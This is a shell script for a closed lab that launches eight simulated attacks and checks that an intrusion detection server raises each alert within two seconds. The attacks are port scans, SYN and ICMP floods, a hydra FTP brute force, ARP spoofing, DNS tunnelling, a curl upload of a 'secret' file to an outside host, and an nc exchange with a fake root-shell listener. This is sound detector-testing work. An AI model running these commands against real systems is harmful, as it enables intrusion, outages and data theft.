# Sourced by script/lab: the eight attacks.

lab_host agent "$agent_ip/24"
lab_host attacker "$attacker_ip/24"
lab_host outside "$outside_ip/24" 10.77.0.30/24
server_start
lab_token
agent_config agent
agent_start agent eth0
until_true 20 agents_online 1 || die "the agent is not heard"

# What the attacks need at the other end.
on outside nc -lk -p 8080 >/dev/null 2>&1 &
on outside sh -c "yes 'uid=0(root) gid=0(root) groups=0(root)' | head -n 3 | nc -l -p 4444" >/dev/null 2>&1 &
on agent python3 script/lab-login.py 21 >/dev/null 2>&1 &
on agent arping -q -c 1 -I eth0 10.77.0.30 || true
seq 1 60 | sed 's/^/wrong/' >"$folder/passwords"
head -c 6000000 /dev/zero >"$folder/secret"

failed=0

# expect DETECTOR SOURCE ATTACK...: attacks, and waits for the alert.
expect() {
    detector=$1 source=$2
    shift 2
    "$@" >>"$folder/attacks.log" 2>&1 || true
    query="/api/alerts?detector=$detector&source=$source&limit=1"
    if until_true 10 arrived "$query"; then
        delay=$(jq -r "$(cat script/lab-delay.jq)" "$folder/alert")
        if [ "$(jq -n "$delay <= 2")" = true ]; then
            say "$detector from $source: stored after $delay s"
            return
        fi
        say "FAILED: $detector from $source took $delay s"
    else
        say "FAILED: no $detector from $source"
    fi
    failed=$((failed + 1))
}

arrived() {
    api "$1" >"$folder/alert" && [ "$(jq '.alerts | length' "$folder/alert")" -gt 0 ]
}

say "attacking"
expect port_scan "$attacker_ip" on attacker nmap -n -Pn -sS -p 1-200 "$agent_ip"
expect port_scan "$outside_ip" on outside nmap -n -Pn -sU --max-retries 0 -T5 -p 1-60 "$agent_ip"
expect syn_flood "$attacker_ip" on attacker hping3 -q -S -p 80 -i u1000 -c 400 "$agent_ip"
expect icmp_flood "$attacker_ip" on attacker hping3 -q -1 -i u2000 -c 300 "$agent_ip"
expect brute_force "$attacker_ip" on attacker timeout 30 \
    hydra -I -t 8 -l root -P "$folder/passwords" "ftp://$agent_ip"
expect arp_spoofing 10.77.0.30 on attacker timeout 3 arpspoof -i eth0 -t "$agent_ip" 10.77.0.30
# Data in names: each is another.
names=$(for n in 1 2 3 4 5 6 7 8 9 10 11 12; do echo "$n" | sha1sum | sed 's/ .*/.tunnel.example.com/'; done)
# shellcheck disable=SC2086 # several names
expect dns_tunnelling "$agent_ip" on agent dig +tries=1 +time=1 "@$outside_ip" $names
expect data_exfiltration "$agent_ip" on agent \
    curl -s --max-time 5 -H Expect: -T "$folder/secret" "http://$outside_ip:8080/"
expect suspicious_port "$agent_ip" on agent sh -c "echo whoami | nc -w 1 $outside_ip 4444"

[ "$failed" -eq 0 ] || die "$failed of the attacks did not reach the server as they should"
dropped=$(api /api/agents | jq '[.[0].heartbeat.interfaces[].dropped_kernel] | add')
say "all attacks reached the server; the kernel dropped $dropped packets"
